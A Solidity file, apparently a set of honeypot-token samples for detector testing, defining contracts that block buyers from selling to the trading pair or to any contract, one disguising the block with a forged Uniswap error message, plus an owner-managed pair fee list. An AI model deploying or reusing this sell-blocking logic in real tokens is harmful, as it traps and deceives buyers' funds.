// SPDX-License-Identifier: MIT
pragma solidity >=0.6.12 <0.9.0;

import {TrapToken} from "./TrapToken.sol";

/// @notice Only the owner may send to the pair.
contract PairSellBlock is TrapToken {
    constructor(address router_) TrapToken(router_) {}

    function _move(address from, address to, uint256 amount) internal override {
        require(!_isSell(from, to), "TransferHelper: TRANSFER_FROM_FAILED");
        super._move(from, to, amount);
    }
}

/// @notice The same for everything that has code, without a text.
contract PairSellBlockByCode is TrapToken {
    constructor(address router_) TrapToken(router_) {}

    function _move(address from, address to, uint256 amount) internal override {
        uint256 size;
        assembly {
            size := extcodesize(to)
        }
        require(size == 0 || from == owner);
        super._move(from, to, amount);
    }
}

/// @notice A list of pairs that only bear a fee of three percent.
contract PairSellBlockTwin is TrapToken {
    mapping(address => bool) public isPair;

    constructor(address router_) TrapToken(router_) {
        isPair[pair] = true;
    }

    function setPair(address another, bool listed) public onlyOwner {
        isPair[another] = listed;
    }

    function _feePercent(address from, address to) internal view override returns (uint256) {
        return _isTrade(from, to) && (isPair[to] || isPair[from]) ? 3 : 0;
    }
}
